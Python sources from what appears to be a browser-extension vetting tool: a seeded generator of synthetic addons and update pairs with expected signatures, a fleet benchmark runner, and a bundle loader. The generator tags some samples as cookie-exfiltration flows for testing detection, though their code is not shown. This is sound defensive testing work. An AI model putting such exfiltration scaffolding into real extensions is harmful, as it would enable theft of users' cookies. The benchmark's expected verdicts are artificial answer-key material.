    """Re-draw every generator-owned identifier (fresh unique names).

    Signature-preserving because generated names never reach the spec
    surface: sources, sinks, and domains are untouched."""
    names = _Names(rng, start=blueprint.next_id)
    renamed = tuple(
        build_fragment(f.kind, names.draw(len(f.names)), f.domain)
        for f in blueprint.fragments
    )
    dead = tuple(
        dead_code_block(names.draw(2), rng.randrange(10_000))
        for _ in blueprint.dead
    )
    return Blueprint(renamed, dead, names.counter)


def mutate_dead_code(blueprint: Blueprint, rng: random.Random) -> Blueprint:
    """Churn the dead-weight blocks: add one, drop one, or rewrite one —
    always in the *tail* region (blocks rendering after every fragment).

    Signature-preserving because dead blocks touch only their own fresh
    names and never call anything. Tail-only because the change-surface
    certificate diffs top-level statements positionally: churn in the
    middle shifts every later statement into the changed region, and if
    that region holds control flow the certificate (soundly) refuses —
    tail churn keeps the shifted region straight-line, which is what
    makes churn-only update pairs certifiable."""
    names = _Names(rng, start=blueprint.next_id)
    dead = list(blueprint.dead)
    tail_start = len(blueprint.fragments)
    tail = len(dead) - tail_start
    action = rng.choice(("add", "drop", "rewrite")) if tail > 0 else "add"
    if action == "add":
        dead.append(dead_code_block(names.draw(2), rng.randrange(10_000)))
    elif action == "drop":
        dead.pop(tail_start + rng.randrange(tail))
    else:
        dead[tail_start + rng.randrange(tail)] = dead_code_block(
            names.draw(2), rng.randrange(10_000)
        )
    return Blueprint(blueprint.fragments, tuple(dead), names.counter)


def mutate_reorder(blueprint: Blueprint, rng: random.Random) -> Blueprint:
    """Shuffle the independent top-level fragments.

    Signature-preserving because fragments are name-isolated and the
    generator never co-locates location writers with location readers
    (the one ordering-sensitive pair)."""
    fragments = list(blueprint.fragments)
    rng.shuffle(fragments)
    return replace(blueprint, fragments=tuple(fragments))


PRESERVING_MUTATIONS = {
    "rename": mutate_rename,
    "dead-code": mutate_dead_code,
    "reorder": mutate_reorder,
}


# ----------------------------------------------------------------------
# Verdict-changing mutations (tagged signature delta)


@dataclass(frozen=True)
class Delta:
    """A verdict-changing mutation's outcome: the new blueprint plus the
    exact entries it added/removed (the expected signature delta)."""

    blueprint: Blueprint
    added: tuple[str, ...]
    removed: tuple[str, ...]
    mutation: str


def mutate_inject_flow(
    blueprint: Blueprint, rng: random.Random, *, allow_dynamic: bool = True
) -> Delta | None:
    """Append a fresh source->sink flow; the delta is its entries."""
    names = _Names(rng, start=blueprint.next_id)
    groups = {f.group for f in blueprint.fragments if f.group}
    pool = tuple(
        k for k in FLOW_KINDS if allow_dynamic or not FRAGMENTS[k][0].dynamic
    )
    fragment = _draw_fragment(rng, names, pool, groups)
    if fragment is None:
        return None
    before = set(blueprint.expected_entries())
    mutated = Blueprint(
        blueprint.fragments + (fragment,), blueprint.dead, names.counter
    )
    added = tuple(sorted(set(mutated.expected_entries()) - before))
    return Delta(mutated, added, (), "inject-flow")


def mutate_remove_flow(blueprint: Blueprint, rng: random.Random) -> Delta | None:
    """Drop one flow fragment; the delta is whatever entries vanish
    (computed set-wise: another fragment may pin the same entry)."""
    flow_positions = [
        index for index, f in enumerate(blueprint.fragments) if f.entries
    ]
    if not flow_positions:
        return None
    position = rng.choice(flow_positions)
    before = set(blueprint.expected_entries())
    fragments = (
        blueprint.fragments[:position] + blueprint.fragments[position + 1:]
    )
    mutated = replace(blueprint, fragments=fragments)
    removed = tuple(sorted(before - set(mutated.expected_entries())))
    return Delta(mutated, (), removed, "remove-flow")


# ----------------------------------------------------------------------
# Corpus generation


def _rng_for(seed: int, index: int, salt: str = "") -> random.Random:
    return random.Random(f"corpusgen:{seed}:{index}:{salt}")


def _generate_single(seed: int, index: int) -> GeneratedAddon:
    rng = _rng_for(seed, index)
    blueprint = _draw_blueprint(rng)
    mutations: list[str] = []
    for _ in range(rng.randrange(0, 3)):
        name = rng.choice(sorted(PRESERVING_MUTATIONS))
        blueprint = PRESERVING_MUTATIONS[name](blueprint, rng)
        mutations.append(name)
    entries = blueprint.expected_entries()
    return GeneratedAddon(
        name=f"gen-{seed}-{index:05d}",
        kind="single",
        source=blueprint.render(),
        expected_signature=expected_signature_text(entries),
        expected_entries=entries,
        seed=seed,
        index=index,
        fragments=tuple(f.kind for f in blueprint.fragments),
        mutations=tuple(mutations),
        dynamic=any(f.dynamic for f in blueprint.fragments),
    )


def _draw_bundle(rng: random.Random, name: str) -> BundleTemplate:
    # 0.4 keeps the fleet's benign fraction (and with it the prefilter
    # hit-rate floor the bench gates on) just above one third at scale.
    benign = rng.random() < 0.4
    names = _Names(rng, start=500)
    extra = tuple(
        "var %s = %d;\n" % (names.draw(1)[0], rng.randrange(50))
        for _ in range(rng.randrange(0, 3))
    )
    padding = []
    for path in ("bg.js", "c0.js"):
        if rng.random() < 0.5:
            padding.append((path, dead_code_block(names.draw(2), rng.randrange(10_000))))
    return BundleTemplate(
        domain=_draw_domain(rng),
        guarded=(not benign) and rng.random() < 0.5,
        extra_content=extra,
        padding=tuple(padding),
        benign=benign,
        name=name,
    )


def _generate_bundle(seed: int, index: int) -> GeneratedAddon:
    rng = _rng_for(seed, index, "bundle")
    name = f"gen-{seed}-{index:05d}"
    template = _draw_bundle(rng, name)
    entries = tuple(sorted(template.entries()))
    return GeneratedAddon(
        name=name,
        kind="bundle",
        source=template.to_source(),
        expected_signature=expected_signature_text(entries),
        expected_entries=entries,
        seed=seed,
        index=index,
        fragments=("bundle-benign",) if template.benign else (
            ("bundle-cookie-exfil-guarded",)
            if template.guarded else ("bundle-cookie-exfil",)
        ),
        mutations=(),
    )


def generate_addon(
    seed: int, index: int, *, bundle_fraction: float = 0.25
) -> GeneratedAddon:
    """Addon ``index`` of seed ``seed`` — deterministic, shard-stable."""
    rng = _rng_for(seed, index, "route")
    if rng.random() < bundle_fraction:
        return _generate_bundle(seed, index)
    return _generate_single(seed, index)


def generate_corpus(
    count: int, seed: int = 0, *, bundle_fraction: float = 0.25
) -> list[GeneratedAddon]:
    """The fleet corpus: ``count`` addons, deterministic in ``seed``."""
    return [
        generate_addon(seed, index, bundle_fraction=bundle_fraction)
        for index in range(count)
    ]


# ----------------------------------------------------------------------
# Update chains


def _update_single(seed: int, index: int) -> GeneratedUpdate:
    rng = _rng_for(seed, index, "update")
    # Dynamic code is kept out of the base so the change-surface
    # certificate is attemptable; the base is padded past the cost gate
    # so certification is *attempted* (amortization at scale).
    blueprint = _draw_blueprint(
        rng, allow_dynamic=False, min_flows=1, pad_to=_GATE_CHARS + 256
    )
    old_entries = blueprint.expected_entries()
    # Weighted like a store's update stream: most updates are
    # non-semantic churn (build noise, dead weight, moved statements),
    # which is also what makes the change-surface certificate pay for
    # itself at fleet scale — a uniform mix under-certifies and the
    # fast lane loses its wall delta.
    mutation = rng.choice(
        ("dead-code", "dead-code", "dead-code", "reorder", "reorder",
         "rename", "inject-flow", "remove-flow")
    )
    if mutation in PRESERVING_MUTATIONS:
        mutated = PRESERVING_MUTATIONS[mutation](blueprint, rng)
        new_entries = mutated.expected_entries()
        # Whether the change-surface certificate fires (approve-fast) or
        # refuses and re-analysis approves depends on what the mutation
        # touched; both are correct for a preserving pair. The check is
        # that re-review never appears.
        expected = PRESERVING_VERDICTS
    elif mutation == "inject-flow":
        delta = mutate_inject_flow(blueprint, rng, allow_dynamic=False)
        if delta is None or not delta.added:  # nothing injectable: narrow
            return _fallback_remove(seed, index, blueprint, rng)
        mutated, new_entries = delta.blueprint, delta.blueprint.expected_entries()
        expected = WIDENING_VERDICTS
    else:
        delta = mutate_remove_flow(blueprint, rng)
        if delta is None:
            return _fallback_remove(seed, index, blueprint, rng)
        mutated, new_entries = delta.blueprint, delta.blueprint.expected_entries()
        expected = NARROWING_VERDICTS if delta.removed else PRESERVING_VERDICTS
    return GeneratedUpdate(
        name=f"gen-up-{seed}-{index:05d}",
        old_source=blueprint.render(),
        new_source=mutated.render(),
        old_expected=expected_signature_text(old_entries),
        new_expected=expected_signature_text(new_entries),
        mutation=mutation,
        expected_verdicts=expected,
    )


def _fallback_remove(
    seed: int, index: int, blueprint: Blueprint, rng: random.Random
) -> GeneratedUpdate:
    """Degenerate draw: fall back to a guaranteed dead-code churn pair."""
    mutated = mutate_dead_code(blueprint, rng)
    entries = blueprint.expected_entries()
    return GeneratedUpdate(
        name=f"gen-up-{seed}-{index:05d}",
        old_source=blueprint.render(),
        new_source=mutated.render(),
        old_expected=expected_signature_text(entries),
        new_expected=expected_signature_text(entries),
        mutation="dead-code",
        expected_verdicts=PRESERVING_VERDICTS,
    )


def _update_bundle(seed: int, index: int) -> GeneratedUpdate:
    """A guard-toggle bundle update: the fast lane refuses bundles, so
    the classification comes from the full signature diff — adding the
    sender guard narrows every flow (approve), stripping it widens them
    back (re-review)."""
    rng = _rng_for(seed, index, "update-bundle")
    name = f"gen-up-{seed}-{index:05d}"
    unguarded = BundleTemplate(domain=_draw_domain(rng), guarded=False, name=name)
    guarded = replace(unguarded, guarded=True)
    add_guard = rng.random() < 0.5
    old, new = (unguarded, guarded) if add_guard else (guarded, unguarded)
    return GeneratedUpdate(
        name=name,
        old_source=old.to_source(),
        new_source=new.to_source(),
        old_expected=expected_signature_text(old.entries()),
        new_expected=expected_signature_text(new.entries()),
        mutation="add-guard" if add_guard else "strip-guard",
        expected_verdicts=(
            NARROWING_VERDICTS if add_guard else WIDENING_VERDICTS
        ),
        kind="bundle",
    )


def generate_updates(
    count: int, seed: int = 0, *, bundle_fraction: float = 0.2
) -> list[GeneratedUpdate]:
    """``count`` update pairs with expected diffvet classifications."""
    updates = []
    for index in range(count):
        rng = _rng_for(seed, index, "update-route")
        if rng.random() < bundle_fraction:
            updates.append(_update_bundle(seed, index))
        else:
            updates.append(_update_single(seed, index))
    return updates
