"""``addon-sig fleet``: store-scale benchmark runs over generated corpora.

Vets a seeded :mod:`repro.corpusgen` corpus (1k+ addons by default)
through the batch engine and measures what a 10-addon corpus cannot:

- **throughput** — addons/s and addons/s/core over the parallel pool;
- **prefilter economics at scale** — hit rate plus the on/off wall
  delta (the benign share of a store is where the prefilter pays);
- **cache economics** — a cold then warm sweep against a fresh on-disk
  cache: hit rate and warm/cold speedup under re-submission traffic;
- **incremental economics** — generated update chains vetted with the
  fast lane on and off: certificate hit rate, attempted/skipped counts,
  and the wall delta that a 5-pair corpus could never amortize;
- **peak RSS** — ``getrusage`` high-water mark of the run, self +
  children (the pool workers);

and — the reason the corpus is generated rather than scraped — a
**verdict-mismatch count that must be zero**: every generated addon
carries its expected signature and every update pair its expected
diffvet classification, so the throughput numbers are simultaneously a
soundness sweep. Results land in the ``fleet`` section of
``BENCH_corpus.json`` (schema v8), merged without disturbing the other
sections.
"""

from __future__ import annotations

import json
import os
import tempfile
import time
from pathlib import Path

from repro.batch import VetTask, summarize, vet_many
from repro.corpusgen.generator import (
    GeneratedAddon,
    GeneratedUpdate,
    generate_corpus,
    generate_updates,
)

#: The keys every ``fleet`` section must carry — CI fails on drift.
FLEET_SECTION_KEYS = (
    "count",
    "seed",
    "workers",
    "generated",
    "verdict_mismatches",
    "mismatches",
    "throughput",
    "prefilter",
    "cache",
    "updates",
    "service",
    "peak_rss_mb",
    "robustness",
)


def _peak_rss_mb() -> float | None:
    """High-water RSS of this process plus its (reaped) children, MB."""
    try:
        import resource
    except ImportError:  # non-POSIX
        return None
    peak_kb = (
        resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        + resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    )
    return round(peak_kb / 1024.0, 2)


def _tasks(corpus: list[GeneratedAddon], *, prefilter: bool = True) -> list[VetTask]:
    return [
        VetTask(name=addon.name, source=addon.source, prefilter=prefilter)
        for addon in corpus
    ]


def _check_signatures(
    corpus: list[GeneratedAddon], outcomes, mismatches: list[dict], arm: str
) -> None:
    """Every outcome must be clean and bit-identical to its expected
    signature; anything else is a recorded mismatch."""
    for addon, outcome in zip(corpus, outcomes):
        if not outcome.ok:
            mismatches.append({
                "name": addon.name, "arm": arm, "kind": "error",
                "detail": f"{outcome.failure}: {outcome.error}",
            })
        elif outcome.signature_text != addon.expected_signature:
            mismatches.append({
                "name": addon.name, "arm": arm, "kind": "signature",
                "expected": addon.expected_signature,
                "got": outcome.signature_text,
            })


def _sweep_throughput(
    corpus: list[GeneratedAddon], workers: int | None,
    mismatches: list[dict],
) -> tuple[list, dict]:
    start = time.perf_counter()
    outcomes = vet_many(_tasks(corpus), workers=workers, use_cache=False)
    wall = time.perf_counter() - start
    _check_signatures(corpus, outcomes, mismatches, "throughput")
    cores = os.cpu_count() or 1
    effective = min(workers or cores, cores)
    rate = len(corpus) / wall if wall > 0 else None
    return outcomes, {
        "wall_s": round(wall, 6),
        "addons_per_s": round(rate, 2) if rate else None,
        "addons_per_s_per_core": (
            round(rate / effective, 2) if rate else None
        ),
        "cores": effective,
    }


def _prefiltered_without_resolution(addon: GeneratedAddon) -> bool:
    """Would the prefilter skip this addon with *no* computed-property
    resolution? A cheap parse + surface scan (no interpreter, no
    pre-analysis) — the control for the ``resolution_gain`` number."""
    from repro.browser import mozilla_spec
    from repro.browser.chrome import webext_spec
    from repro.js.parser import parse
    from repro.lint.surface import decide_relevance, decide_relevance_many
    from repro.webext.loader import bundle_from_text, is_bundle_text
    from repro.webext.lowering import parse_extension

    try:
        if is_bundle_text(addon.source):
            parsed = parse_extension(bundle_from_text(addon.source))
            decision = decide_relevance_many(
                parsed.parsed, webext_spec(), degraded=bool(parsed.skipped)
            )
        else:
            decision = decide_relevance(parse(addon.source), mozilla_spec())
    except Exception:
        return False
    return not decision.relevant


def _sweep_prefilter(
    corpus: list[GeneratedAddon], workers: int | None,
    on_outcomes, on_wall: float, mismatches: list[dict],
) -> dict:
    """The control arm: the same corpus with the prefilter off. The
    throughput sweep above is the on arm (no extra wall clock)."""
    start = time.perf_counter()
    off = vet_many(
        _tasks(corpus, prefilter=False), workers=workers, use_cache=False
    )
    wall_off = time.perf_counter() - start
    _check_signatures(corpus, off, mismatches, "prefilter-off")
    hits = sum(1 for outcome in on_outcomes if outcome.prefiltered)
    hits_plain = sum(
        1 for addon in corpus if _prefiltered_without_resolution(addon)
    )
    return {
        "addons": len(corpus),
        "hits": hits,
        "hit_rate": round(hits / len(corpus), 4) if corpus else None,
        # The same decision without the pre-analysis resolver: computed
        # sites all read as dynamic, so addons whose only dynamism is a
        # provably-constant key fall out of the fast lane.
        "hits_without_resolution": hits_plain,
        "hit_rate_without_resolution": (
            round(hits_plain / len(corpus), 4) if corpus else None
        ),
        "resolution_gain": hits - hits_plain,
        "wall_on_s": round(on_wall, 6),
        "wall_off_s": round(wall_off, 6),
        "wall_delta_s": round(wall_off - on_wall, 6),
        "identical_signatures": all(
            a.signature_text == b.signature_text
            for a, b in zip(on_outcomes, off)
        ),
    }


def _sweep_cache(
    corpus: list[GeneratedAddon], workers: int | None, mismatches: list[dict]
) -> dict:
    """Cold then warm against a fresh cache directory: the hit rate and
    speedup a vetting service sees under re-submission traffic."""
    with tempfile.TemporaryDirectory(prefix="fleet-cache-") as cache_dir:
        start = time.perf_counter()
        vet_many(
            _tasks(corpus), workers=workers, use_cache=True,
            cache_dir=cache_dir,
        )
        cold_wall = time.perf_counter() - start
        start = time.perf_counter()
        warm = vet_many(
            _tasks(corpus), workers=workers, use_cache=True,
            cache_dir=cache_dir,
        )
        warm_wall = time.perf_counter() - start
    _check_signatures(corpus, warm, mismatches, "cache-warm")
    hits = sum(1 for outcome in warm if outcome.cached)
    return {
        "addons": len(corpus),
        "hits": hits,
        "hit_rate": round(hits / len(corpus), 4) if corpus else None,
        "cold_wall_s": round(cold_wall, 6),
        "warm_wall_s": round(warm_wall, 6),
        "speedup": (
            round(cold_wall / warm_wall, 2) if warm_wall > 0 else None
        ),
    }


def _update_tasks(
    updates: list[GeneratedUpdate], *, incremental: bool
) -> list[VetTask]:
    return [
        VetTask(
            name=update.name,
            source=update.new_source,
            baseline_source=update.old_source,
            baseline_signature_text=update.old_expected,
            incremental=incremental,
        )
        for update in updates
    ]


def _sweep_updates(
    updates: list[GeneratedUpdate], workers: int | None,
    mismatches: list[dict],
) -> dict:
    """Generated update chains through the differential lane, fast lane
    on vs. off. Baselines come from the generator (the old version's
    expected signature *is* its vetted signature — checked by the
    single-addon sweeps), so no extra old-version vetting run is paid."""
    start = time.perf_counter()
    fast = vet_many(
        _update_tasks(updates, incremental=True),
        workers=workers, use_cache=False,
    )
    wall_fast = time.perf_counter() - start
    start = time.perf_counter()
    full = vet_many(
        _update_tasks(updates, incremental=False),
        workers=workers, use_cache=False,
    )
    wall_full = time.perf_counter() - start

    verdicts: dict[str, int] = {}
    for update, fast_outcome, full_outcome in zip(updates, fast, full):
        for arm, outcome in (("update-fast", fast_outcome),
                             ("update-full", full_outcome)):
            if not outcome.ok:
                mismatches.append({
                    "name": update.name, "arm": arm, "kind": "error",
                    "detail": f"{outcome.failure}: {outcome.error}",
                })
                continue
            if outcome.signature_text != update.new_expected:
                mismatches.append({
                    "name": update.name, "arm": arm, "kind": "signature",
                    "expected": update.new_expected,
                    "got": outcome.signature_text,
                })
            if outcome.diff_verdict not in update.expected_verdicts:
                mismatches.append({
                    "name": update.name, "arm": arm, "kind": "verdict",
                    "mutation": update.mutation,
                    "expected": list(update.expected_verdicts),
                    "got": outcome.diff_verdict,
                })
        if fast_outcome.diff_verdict:
            verdicts[fast_outcome.diff_verdict] = (
                verdicts.get(fast_outcome.diff_verdict, 0) + 1
            )

    hits = sum(1 for outcome in fast if outcome.incremental)
    return {
        "pairs": len(updates),
        "hits": hits,
        "hit_rate": round(hits / len(updates), 4) if updates else None,
        "certifications_attempted": sum(
            o.counters.get("certification_attempted", 0) for o in fast
        ),
        "certifications_skipped": sum(
            o.counters.get("certification_skipped", 0) for o in fast
        ),
        "wall_incremental_s": round(wall_fast, 6),
        "wall_full_s": round(wall_full, 6),
        "wall_delta_s": round(wall_full - wall_fast, 6),
        "verdicts": verdicts,
        "mutations": _count(update.mutation for update in updates),
    }


def _count(items) -> dict[str, int]:
    counts: dict[str, int] = {}
    for item in items:
        counts[item] = counts.get(item, 0) + 1
    return dict(sorted(counts.items()))


def _sweep_service(
    corpus: list[GeneratedAddon], workers: int | None,
    mismatches: list[dict], sample: int = 50,
) -> dict:
    """Optional arm: round-trip a sample of the corpus through the
    ``addon-sig serve`` daemon and hold its outcomes to the same
    expected signatures — the service path must not bend results."""
    from repro.service.loadgen import DaemonHandle

    subset = corpus[:sample]
    with tempfile.TemporaryDirectory(prefix="fleet-service-") as directory:
        handle = DaemonHandle(
            Path(directory), workers=min(workers or 2, 4),
            max_attempts=3, fsync=False,
        )
        handle.start()
        try:
            start = time.perf_counter()
            job_ids = [
                handle.client.submit(
                    VetTask(name=addon.name, source=addon.source)
                )["id"]
                for addon in subset
            ]
            outcomes = []
            for job_id in job_ids:
                handle.client.wait(job_id, timeout=300.0)
                payload = handle.client.result(job_id)["outcome"]
                outcomes.append(payload)
            wall = time.perf_counter() - start
        finally:
            handle.stop()
    hits = 0
    for addon, outcome in zip(subset, outcomes):
        if outcome.get("ok") and (
            outcome.get("signature_text") == addon.expected_signature
        ):
            hits += 1
        else:
            mismatches.append({
                "name": addon.name, "arm": "service",
                "kind": "signature" if outcome.get("ok") else "error",
                "expected": addon.expected_signature,
                "got": outcome.get("signature_text") or outcome.get("error"),
            })
    return {
        "addons": len(subset),
        "ok": hits,
        "wall_s": round(wall, 6),
    }


def run_fleet(
    count: int = 1000,
    seed: int = 0,
    *,
    workers: int | None = None,
    update_count: int | None = None,
    bundle_fraction: float = 0.25,
    service: bool = False,
    output: str | Path | None = "BENCH_corpus.json",
) -> dict:
    """Run the full fleet benchmark; returns the ``fleet`` section.

    ``update_count`` defaults to ``max(count // 5, 10)`` version pairs.
    With ``output`` set, the section is merged into the bench report at
    that path (creating a minimal ``fleet``-only report when no bench
    has run yet) under schema v8."""
    corpus = generate_corpus(count, seed, bundle_fraction=bundle_fraction)
    updates = generate_updates(
        update_count if update_count is not None else max(count // 5, 10),
        seed,
    )
    mismatches: list[dict] = []

    outcomes, throughput = _sweep_throughput(corpus, workers, mismatches)
    prefilter = _sweep_prefilter(
        corpus, workers, outcomes, throughput["wall_s"], mismatches
    )
    cache = _sweep_cache(corpus, workers, mismatches)
    update_section = _sweep_updates(updates, workers, mismatches)
    service_section = (
        _sweep_service(corpus, workers, mismatches) if service else None
    )

    section = {
        "count": count,
        "seed": seed,
        "workers": workers,
        "generated": {
            "singles": sum(1 for a in corpus if a.kind == "single"),
            "bundles": sum(1 for a in corpus if a.kind == "bundle"),
            "benign": sum(1 for a in corpus if not a.expected_entries),
            "dynamic": sum(1 for a in corpus if a.dynamic),
            "fragments": _count(
                kind for addon in corpus for kind in addon.fragments
            ),
            "mutations": _count(
                name for addon in corpus for name in addon.mutations
            ),
        },
        "verdict_mismatches": len(mismatches),
        # Capped detail: enough to reproduce (the corpus is seeded), not
        # enough to bloat the report when something goes badly wrong.
        "mismatches": mismatches[:20],
        "throughput": throughput,
        "prefilter": prefilter,
        "cache": cache,
        "updates": update_section,
        "service": service_section,
        "peak_rss_mb": _peak_rss_mb(),
        "robustness": summarize(outcomes),
    }
    if output is not None:
        merge_fleet_section(Path(output), section)
    return section


def merge_fleet_section(path: Path, section: dict) -> dict:
    """Merge the ``fleet`` section into the bench report at ``path``,
    preserving every other section, and stamp schema v8."""
    from repro.evaluation.bench import SCHEMA
    from repro.store import atomic_write_json

    report: dict = {}
    if path.exists():
        try:
            report = json.loads(path.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            report = {}
    if not isinstance(report, dict):
        report = {}
    report["schema"] = SCHEMA
    report["fleet"] = section
    atomic_write_json(path, report, fsync=False)
    return report


def render_fleet(section: dict) -> str:
    generated = section["generated"]
    throughput = section["throughput"]
    prefilter = section["prefilter"]
    cache = section["cache"]
    updates = section["updates"]
    lines = [
        f"fleet: {section['count']} generated addons (seed {section['seed']})"
        f" — {generated['singles']} single-file, {generated['bundles']}"
        f" bundles, {generated['benign']} benign",
        f"  throughput: {throughput['wall_s']:.2f}s wall,"
        f" {throughput['addons_per_s'] or 0:.1f} addons/s"
        f" ({throughput['addons_per_s_per_core'] or 0:.1f}/core,"
        f" {throughput['cores']} cores)",
        f"  prefilter: {prefilter['hits']}/{prefilter['addons']} skipped"
        f" (hit rate {(prefilter['hit_rate'] or 0):.0%}),"
        f" wall {prefilter['wall_on_s']:.2f}s on"
        f" vs {prefilter['wall_off_s']:.2f}s off"
        f" (delta {prefilter['wall_delta_s']:+.2f}s)",
        f"  cache: warm hit rate {(cache['hit_rate'] or 0):.0%},"
        f" cold {cache['cold_wall_s']:.2f}s vs warm"
        f" {cache['warm_wall_s']:.2f}s"
        f" ({cache['speedup'] or 0:.1f}x)",
        f"  updates: {updates['hits']}/{updates['pairs']} fast-laned"
        f" (hit rate {(updates['hit_rate'] or 0):.0%}),"
        f" wall {updates['wall_incremental_s']:.2f}s on"
        f" vs {updates['wall_full_s']:.2f}s off"
        f" (delta {updates['wall_delta_s']:+.2f}s)",
    ]
    if section.get("service"):
        service = section["service"]
        lines.append(
            f"  service: {service['ok']}/{service['addons']} round-tripped"
            f" in {service['wall_s']:.2f}s"
        )
    if section.get("peak_rss_mb") is not None:
        lines.append(f"  peak RSS: {section['peak_rss_mb']:.0f} MB")
    lines.append(
        f"  verdict mismatches: {section['verdict_mismatches']}"
        + (" — SOUND" if not section["verdict_mismatches"] else " — FAILED")
    )
    for mismatch in section["mismatches"][:5]:
        lines.append(
            f"    mismatch [{mismatch['arm']}/{mismatch['kind']}]"
            f" {mismatch['name']}"
        )
    return "\n".join(lines)
