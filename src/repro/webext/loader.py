"""Extension bundles: a directory of files as one deterministic text.

Every downstream production path — the batch engine, the on-disk result
cache, diffvet chains, the service job queue — moves addons around as
*source strings* (hashable, picklable, journal-able). Rather than teach
each of those paths about directories, an extension directory is
serialized into a single canonical JSON text (a *bundle*) carrying the
manifest plus every ``.js`` file. ``api.vet`` and friends sniff bundle
texts via a magic first key and route them through the webext pipeline;
everything else treats them as opaque source strings, unchanged.

The magic key ``%webext-bundle`` starts with ``%`` (0x25), which sorts
before every alphanumeric character, so under ``json.dumps(...,
sort_keys=True)`` it is always the first key — detection is a cheap
prefix check, no JSON parse needed.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path

from repro.webext.manifest import ExtensionManifest, ManifestError

#: Magic key marking a serialized bundle; always first under sort_keys.
BUNDLE_MAGIC = "%webext-bundle"

_BUNDLE_PREFIX = '{"' + BUNDLE_MAGIC + '"'


@dataclass(frozen=True)
class Component:
    """One executable component: a name and its source files in order."""

    name: str
    #: ``(path, source)`` pairs, manifest order.
    files: tuple[tuple[str, str], ...]


@dataclass(frozen=True)
class ExtensionBundle:
    """An extension: manifest text plus all JavaScript files.

    ``files`` holds *every* ``.js`` file found in the extension (sorted
    by path), not only the ones the manifest references — the lint rules
    scan all of them; :meth:`components` picks out the referenced ones.
    """

    name: str
    manifest_text: str
    files: tuple[tuple[str, str], ...]

    @cached_property
    def manifest(self) -> ExtensionManifest:
        return ExtensionManifest.from_text(self.manifest_text)

    @cached_property
    def file_map(self) -> dict[str, str]:
        return dict(self.files)

    def components(self) -> tuple[Component, ...]:
        """The executable components, background first.

        Files the manifest references but the bundle doesn't contain are
        skipped (tolerant loading — the lint layer flags them); a
        component with no present files is dropped entirely.
        """
        manifest = self.manifest
        components: list[Component] = []

        def resolve(paths: tuple[str, ...]) -> tuple[tuple[str, str], ...]:
            return tuple(
                (path, self.file_map[path])
                for path in paths
                if path in self.file_map
            )

        background = resolve(manifest.background_scripts)
        if background:
            components.append(Component("background", background))
        for index, entry in enumerate(manifest.content_scripts):
            files = resolve(entry.js)
            if not files:
                continue
            name = "content" if index == 0 else f"content{index + 1}"
            components.append(Component(name, files))
        return tuple(components)

    def missing_files(self) -> tuple[str, ...]:
        """Manifest-referenced scripts absent from the bundle."""
        return tuple(
            path
            for path in self.manifest.script_files()
            if path not in self.file_map
        )

    def to_text(self) -> str:
        """Canonical single-text serialization (deterministic)."""
        return json.dumps(
            {
                BUNDLE_MAGIC: 1,
                "files": {path: source for path, source in self.files},
                "manifest": self.manifest_text,
                "name": self.name,
            },
            sort_keys=True,
            separators=(",", ":"),
        )


def is_bundle_text(source: str) -> bool:
    """Cheap check: is this source string a serialized extension bundle?"""
    return source.startswith(_BUNDLE_PREFIX)


def bundle_from_text(source: str) -> ExtensionBundle:
    try:
        raw = json.loads(source)
    except json.JSONDecodeError as error:
        raise ManifestError(f"malformed extension bundle: {error}") from error
    if not isinstance(raw, dict) or BUNDLE_MAGIC not in raw:
        raise ManifestError("not an extension bundle")
    files = raw.get("files", {})
    if not isinstance(files, dict):
        raise ManifestError("bundle 'files' must be an object")
    return ExtensionBundle(
        name=str(raw.get("name", "<extension>")),
        manifest_text=str(raw.get("manifest", "{}")),
        files=tuple(sorted((str(k), str(v)) for k, v in files.items())),
    )


def bundle_from_dir(path: str | Path) -> ExtensionBundle:
    """Load an extension directory (must contain ``manifest.json``).

    Loading from disk is strict where in-memory bundles are tolerant: a
    manifest whose ``content_scripts`` entry lists zero scripts or
    references a JS file absent from the directory is a typed
    :class:`~repro.webext.manifest.ManifestError` refusal at load time.
    On disk there is no later lint pass guaranteed to run before the
    batch/service layers hash and journal the text, so a broken
    reference must not become a silently-empty component downstream.
    """
    root = Path(path)
    manifest_path = root / "manifest.json"
    if not manifest_path.is_file():
        raise ManifestError(f"no manifest.json in {root}")
    manifest_text = manifest_path.read_text(encoding="utf-8")
    files = tuple(
        sorted(
            (file.relative_to(root).as_posix(), file.read_text(encoding="utf-8"))
            for file in root.rglob("*.js")
            if file.is_file()
        )
    )
    bundle = ExtensionBundle(
        name=root.name, manifest_text=manifest_text, files=files
    )
    manifest = bundle.manifest  # a bad manifest fails at load time
    for index, entry in enumerate(manifest.content_scripts):
        if not entry.js:
            raise ManifestError(
                f"{root}: content_scripts[{index}] lists no js files"
            )
    missing = bundle.missing_files()
    if missing:
        raise ManifestError(
            f"{root}: manifest references missing scripts: "
            + ", ".join(sorted(missing))
        )
    return bundle


def load_source(path: str | Path) -> str:
    """Read a vetting input: an extension directory or a single JS file.

    Directories serialize to bundle text; files return their contents.
    This is the single loader every entry point (CLI vet/lint/diff,
    batch, service) routes through, which is what keeps those paths
    free of directory special-casing.
    """
    target = Path(path)
    if target.is_dir():
        return bundle_from_dir(target).to_text()
    return target.read_text(encoding="utf-8")
