"""The WebExtensions vetting pipeline: bundle -> :class:`VettingReport`.

Same three phases as the single-file pipeline (:func:`repro.api.vet`),
with the front end swapped for the multi-file lowering, the environment
for :class:`repro.browser.chrome.WebExtEnvironment`, the default spec
for :func:`repro.browser.chrome.webext_spec`, and one extra inference
step: the sender-guard downgrade of :mod:`repro.webext.guards`, applied
*before* salvage widening (a degraded run's ⊤ entries must stay ⊤).
"""

from __future__ import annotations

import time

from repro.analysis import analyze
from repro.api import VettingReport, infer_detail
from repro.browser.chrome import WebExtEnvironment, webext_spec
from repro.faults import Budget, Degradation, FailureKind
from repro.js import node_count
from repro.pdg import build_pdg
from repro.perf import Counters, PhaseTimes
from repro.signatures import (
    InferenceDetail,
    SecuritySpec,
    Signature,
    compare,
    widen_detail,
)
from repro.webext.guards import downgrade_guarded, find_sender_guards
from repro.webext.loader import ExtensionBundle, bundle_from_text
from repro.webext.lowering import lower_parsed_extension, parse_extension


def vet_extension(
    source: str | ExtensionBundle,
    manual: Signature | None = None,
    real_extras: frozenset = frozenset(),
    spec: SecuritySpec | None = None,
    k: int = 1,
    budget: Budget | None = None,
    recover: bool = False,
    prefilter: bool = False,
    preanalysis: bool = True,
) -> VettingReport:
    """Vet one extension bundle (or its serialized bundle text).

    Mirrors :func:`repro.api.vet` so batch/diffvet/service code can
